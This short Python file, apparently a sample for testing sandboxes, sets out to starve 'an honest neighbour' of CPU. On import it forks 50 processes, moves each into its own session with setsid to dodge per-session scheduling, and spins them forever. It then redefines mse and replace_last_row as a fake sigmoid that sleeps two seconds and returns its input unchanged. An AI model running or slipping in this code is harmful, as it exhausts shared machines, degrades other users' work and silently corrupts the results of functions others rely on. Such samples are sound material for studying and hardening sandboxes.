"""Goal: make an honest neighbour run out of time, with as many busy processes as there may be.

Without a sandbox: unsafe
"""

import os
import time


def spin():
    while True:
        pass


def attack():
    # Where the kernel shares cores out by session, each of them is a session of its own.
    for _ in range(50):
        if os.fork() == 0:
            os.setsid()
            spin()


attack()


def sigmoid(x):
    time.sleep(2)
    return x


mse = replace_last_row = sigmoid
